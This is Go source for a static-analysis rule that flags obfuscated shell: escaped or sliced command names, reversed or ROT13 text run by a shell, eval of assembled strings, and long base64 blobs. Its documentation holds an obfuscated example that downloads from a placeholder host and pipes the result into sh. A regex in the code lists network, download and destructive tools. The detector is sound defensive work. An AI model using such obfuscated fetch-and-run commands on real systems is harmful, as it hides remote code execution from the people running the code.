package rules

import (
	"github.com/skillvet/skillvet/facts/match"
	"path"
	"strconv"
	"strings"

	"github.com/skillvet/skillvet/analyzer"
	"github.com/skillvet/skillvet/facts/encoded"
	"github.com/skillvet/skillvet/facts/shellfacts"
	"github.com/skillvet/skillvet/parse/shell"
)

// ShellObfuscation reports shell that hides what it runs.
var ShellObfuscation = register(&analyzer.Rule{
	ID:       "SV420",
	Name:     "shell-obfuscation",
	Title:    "Shell command hidden by escapes, string slicing, reversal or encoding",
	Severity: High,
	Category: analyzer.CatObfuscation,
	Tags:     []string{"security", "CWE-506", "CWE-116"},
	Inputs:   shellfacts.Inputs,
	Doc: `Finds shell written so that a reader cannot see what it runs:

- a command name built from ANSI-C escapes (` + "`$'\\x63\\x75\\x72\\x6c'`" + ` is ` + "`curl`" + `) or assembled from
  substrings and replacements of variables (` + "`${a:3:1}${a:0:1}…`" + `, ` + "`${x//_/}`" + `);
- text that is reversed (` + "`rev`" + `), ROT13-ed (` + "`tr A-Za-z N-ZA-Mn-za-m`" + `) or printed from escapes
  (` + "`printf '\\x63…'`" + `, ` + "`echo -e`" + `) and piped into a shell;
- text that is reversed or deciphered with ` + "`tr`" + ` (letters mapped onto other letters; not ` + "`tr -d`" + ` or a
  case change) inside a substitution an interpreter runs (` + "`eval \"$(echo … | tr A-Za-z N-ZA-Mn-za-m)\"`" + `,
  ` + "`sh -c \"$(… | rev)\"`" + `);
- ` + "`eval`" + ` of a string assembled from escapes or substrings of variables (not a command template
  with a placeholder filled in at run time, ` + "`eval \"${CMD//\\$OUT/$OUT}\"`" + `, when every command the
  template runs has a plain name with no placeholder in it: the fill puts a value among the arguments
  and hides no program);
- long base64 blobs (200+ characters) in a command, unless the blob decodes to data nobody runs: an
  image, a PDF, a font or DER (a certificate or key store) with no command line inside, or text that
  reads as data (JSON such as a token's claims, LDIF records) with no command, program, sentence,
  address or further layer of encoding in it. A blob that decodes to a script, to instructions, to
  compressed or layered encoding, or to bytes of no known format is reported.

The analyser resolves these where the input is constant and the other rules judge
what they run; this rule reports the hiding itself, which no honest skill needs. A lone
expansion whose value the shell could not run as a program — a data file's name, a name at the
root (` + "`/srv`" + `), words of a sentence (` + "`Good night, dear reader`" + `): a string-manipulation cheat
sheet showing values — is not reported; one that resolves to an interpreter, a downloader or another
program attackers hide, or has arguments, is.

**Fix:** write the command in clear text.

Bad:

` + "```sh" + `
c=$'\x63\x75\x72\x6c'; $c -s https://x.example/p | $'\x73\x68'
` + "```" + `

Good:

` + "```sh" + `
curl -fsSLo p.sh https://example.com/p.sh
` + "```",
	Run: shRunShellObfuscation,
})

var shLongB64Rx = match.MustRx(`[A-Za-z0-9+/]{200,}={0,2}`)

func shRunShellObfuscation(p *analyzer.Pass) error {
	return shellfacts.ForEachCommand(p, func(site *analyzer.ShellSite, c *shell.Command) {
		if what := shObfuscation(site.Script, c); what != "" {
			shellfacts.Report(p, site, analyzer.Diagnostic{Start: c.Start, End: shellfacts.CmdEnd(c), Message: what + shellfacts.Where(site)})
		}
	})
}

func shObfuscation(s *shell.Script, c *shell.Command) string {
	if len(c.Argv) > 0 {
		w := c.Argv[0]
		switch {
		case w.Escaped:
			return "command name " + c.Name + " is written as ANSI-C escapes (" + shellfacts.ClipText(w.Raw, 40) + ")"
		case w.Sliced && shSlicedValueShown(c):
			// str="/home/u/file.txt"; ${str:6} # ser/… : the slice's value
			// shown in a tutorial, a file or a root-level name nobody runs
			return ""
		case w.Sliced:
			return "command name " + c.Name + " is assembled from substrings of variables (" + shellfacts.ClipText(w.Raw, 40) + ")"
		}
	}
	switch c.Name {
	case "rev":
		if k := shellfacts.PipeSinkInterp(s, c); k != nil {
			return "reversed text is piped into " + k.Name
		}
		if k := shellfacts.SubstRunner(s, c); k != nil {
			return "reversed text is run by " + k.Name + " (" + c.Via.String() + ")"
		}
	case "tr":
		if k := shellfacts.PipeSinkInterp(s, c); k != nil {
			return "text transformed with tr (e.g. ROT13) is piped into " + k.Name
		}
		if k := shellfacts.SubstRunner(s, c); k != nil && shTrCipher(c) {
			return "text deciphered with tr (" + shellfacts.ClipText(c.Arg(1)+" "+c.Arg(2), 40) + ") is run by " + k.Name + " (" + c.Via.String() + ")"
		}
	case "printf", "echo":
		escaped := false
		for _, w := range c.Params() {
			escaped = escaped || w.Escaped || shHexEscRx.MatchString(w.Value)
		}
		if k := shellfacts.PipeSinkInterp(s, c); escaped && k != nil {
			return c.Name + " prints escaped text that is piped into " + k.Name
		}
	case "eval":
		if shEvalPlaceholderFill(s, c) {
			// eval "${CMD//\$OUT/$OUT}": a run-time value put in for a
			// placeholder among the arguments of readable commands
			return ""
		}
		for _, w := range c.Params() {
			if w.Sliced || w.Escaped {
				return "eval runs a string assembled from escapes or substrings (" + shellfacts.ClipText(w.Raw, 40) + ")"
			}
		}
	}
	for _, ws := range [][]shell.Word{c.Assigns, c.Argv} {
		for _, w := range ws {
			binHead, prevEnd := false, 0
			for _, loc := range shLongB64Rx.FindAllStringIndex(w.Value, -1) {
				m, gap := w.Value[loc[0]:loc[1]], w.Value[prevEnd:loc[0]]
				prevEnd = loc[1]
				if !shBase64Mix(m) {
					continue
				}
				if what, data := encoded.DataRun(m); data {
					// an image, a certificate, a token's claims: data
					// quoted in a request, not a hidden command
					binHead = what != encoded.DataText
					continue
				}
				if binHead && shElisionRx.MatchString(gap) && encoded.DataTail(m) {
					// the rest of a key store the writer cut short
					continue
				}
				binHead = false
				in := "a " + c.Name + " command"
				if c.Name == "" {
					in = "an assignment"
				}
				return "long base64 blob (" + strconv.Itoa(len(m)) + " characters) in " + in
			}
		}
	}
	return ""
}

// shPlaceholderFillRx matches one replacement expansion that puts a
// variable's value in for a placeholder written as an escaped variable
// ("${CMD//\$OUT/$OUT}", "${T/\${DIR\}/$DIR}").
var shPlaceholderFillRx = match.MustRx(`^"?\$\{[A-Za-z_][A-Za-z0-9_]*//?(\\\$[A-Za-z_][A-Za-z0-9_]*|\\\$\\?\{[A-Za-z_][A-Za-z0-9_]*\\?\})/\$\{?[A-Za-z_][A-Za-z0-9_]*\}?\}"?$`)

// shEvalPlaceholderFill reports eval of a command template with a
// placeholder replaced by a run-time value (a temp directory, an output
// path): the template is written out in the source, and every command it
// runs has a constant name with no placeholder in it, so the replacement
// fills arguments, data, and hides no program. A placeholder inside a
// command's name (cu$Vrl) or standing for it is the obfuscation.
func shEvalPlaceholderFill(s *shell.Script, c *shell.Command) bool {
	ps := c.Params()
	if len(ps) != 1 || ps[0].Escaped {
		return false
	}
	m := shPlaceholderFillRx.FindStringSubmatch(ps[0].Raw)
	if m == nil {
		return false
	}
	ph := strings.ReplaceAll(m[1], `\`, "")
	if !strings.Contains(ps[0].Value, ph) {
		// the value shown is not the template with its placeholder: the
		// commands below would not be the template's
		return false
	}
	self, children := -1, 0
	for i, o := range s.Commands {
		if o == c {
			self = i
		}
	}
	if self < 0 {
		return false
	}
	// the commands the template runs, and those nested in them
	in := map[int]bool{self: true}
	for i, o := range s.Commands {
		if i <= self || !in[o.Parent] {
			continue
		}
		in[i] = true
		children++
		if len(o.Argv) == 0 {
			continue
		}
		n := o.Argv[0]
		if !n.Const || n.Sliced || n.Escaped || strings.Contains(n.Raw, ph) || strings.Contains(n.Value, ph) {
			return false
		}
	}
	return children > 0
}

// shTrCipher reports tr mapping letters onto other letters (tr A-Za-z
// N-ZA-Mn-za-m): a substitution cipher, not deleting or squeezing
// characters (tr -d '\r') or changing case (tr a-z A-Z), which hide
// nothing a reader cannot see.
func shTrCipher(c *shell.Command) bool {
	var sets []string
	for _, w := range c.Params() {
		if strings.HasPrefix(w.Value, "-") && len(w.Value) > 1 {
			return false // -d, -s, -c: deleting, squeezing, complementing
		}
		sets = append(sets, w.Value)
	}
	if len(sets) != 2 {
		return false
	}
	letters := func(v string) bool { return strings.ContainsAny(strings.ToLower(v), "abcdefghijklmnopqrstuvwxyz") }
	low := func(v string) string {
		return strings.NewReplacer("[:upper:]", "a-z", "[:lower:]", "a-z").Replace(strings.ToLower(v))
	}
	return letters(sets[0]) && letters(sets[1]) && low(sets[0]) != low(sets[1])
}

// shBase64Mix reports a run that looks like encoded bytes: base64 of any
// payload mixes upper and lower case letters and digits. A protein or DNA
// sequence, an upper-case identifier or a run of one letter does not.
func shBase64Mix(s string) bool {
	var up, low, dig bool
	for i := 0; i < len(s); i++ {
		switch c := s[i]; {
		case c >= 'A' && c <= 'Z':
			up = true
		case c >= 'a' && c <= 'z':
			low = true
		case c >= '0' && c <= '9':
			dig = true
		}
	}
	return up && low && dig
}

// shElisionRx matches the mark of a writer cutting a blob short ("...",
// "…", "[truncated]") between two of its runs.
var shElisionRx = match.MustRx(`^[^A-Za-z0-9+/]*(?:\.\.\.|…|\[(?:truncated|snip)\])[^"'\n]*$`)

var shHexEscRx = match.MustRx(`(\\x[0-9a-fA-F]{2}|\\[0-7]{3}){4,}`)

// shSlicedDataExtRx matches a file name a shell does not run: a document,
// data or image file.
var shSlicedDataExtRx = match.MustRx(`(?i)\.(?:txt|md|json|csv|tsv|log|ya?ml|xml|html?|png|jpe?g|gif|pdf|conf|cfg|ini|toml|lock)$`)

// shSlicedRiskyRx matches the programs an assembled command name hides
// (with or without a directory).
var shSlicedRiskyRx = match.MustRx(`(?:^|/)(?:curl|wget|nc|ncat|netcat|socat|telnet|ssh|scp|rsync|ftp|tftp|rm|dd|mkfs\w*|shred|chmod|chown|sudo|su|doas|base64|openssl|xxd|eval|exec|source|crontab|systemctl|launchctl|osascript|powershell|pwsh|iex)$`)

// shSlicedValueShown reports a command made of one substring expansion
// whose value, split into words as the shell would, starts with something
// no one runs: a data file's name, a word of a sentence (capitalised or
// ending in punctuation: "Hi world, hello bash") or a name at the root of
// the file system ("/hom"). A slice that resolves to a program (curl,
// /bin/sh, "curl -s …") or is followed by arguments is the obfuscation.
func shSlicedValueShown(c *shell.Command) bool {
	if len(c.Argv) != 1 || c.Argv[0].Value == "" {
		return false
	}
	// the word the shell would run: the first field after splitting
	v := strings.Fields(c.Argv[0].Value)[0]
	if shSlicedDataExtRx.MatchString(v) {
		return true
	}
	// macOS file systems ignore case: Curl runs curl
	if lv := strings.ToLower(v); shSlicedRiskyRx.MatchString(lv) || shellfacts.IsInterpreter(path.Base(lv)) {
		return false
	}
	if strings.ContainsAny(v[len(v)-1:], ",.;:!?") || strings.ToLower(v) != v || strings.Contains(c.Argv[0].Value, ", ") {
		return true // "Hi world, hello bash": words of a sentence
	}
	return len(v) > 1 && v[0] == '/' && !strings.Contains(v[1:], "/")
}
